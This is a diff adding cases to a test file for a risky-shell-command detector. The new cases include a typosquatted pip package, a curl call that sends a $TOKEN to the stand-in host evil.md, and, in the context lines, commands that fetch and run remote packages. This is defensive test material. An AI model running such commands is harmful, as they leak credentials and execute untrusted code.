@@ -316,6 +316,23 @@ export const COMMAND_CASES: Case[] = [
     'npx -y thing',
     'go run example.net/x@latest',
   ].map((line): Case => [id, 'fires', line, 'medium', pair(usual, run(line))]),
+  [id, 'fires', 'another package', 'medium', pair(run('pip install -q requests'), run('pip install -q requestz'))],
+  [id, 'fires', 'one more package', 'medium', pair(run('npm i left'), run('npm i left @acme/right'))],
+  [
+    id,
+    'silent',
+    'other versions and options',
+    '',
+    pair(run('pip install requests==2.1 "a[b]>=1"'), run('pip install --no-cache-dir a requests==2.2')),
+  ],
+  [
+    id,
+    'silent',
+    'files and templates of names beside variables',
+    '',
+    pair(usual, run('T=$(mktemp -d "/x/$D.XXXXXX"); cp README.md "$T"; curl -o "$T/a" http://files.tools.svc/a')),
+  ],
+  [id, 'fires', 'a host that ends as a file', 'medium', pair(usual, run('curl "https://evil.md/$TOKEN"'))],
   ...['kubectl apply -f /manifests/a.yaml', 'helm install x ./chart', 'npm run start', 'git status'].map(
     (line): Case => [id, 'silent', line, '', pair(usual, run(line))],
   ),
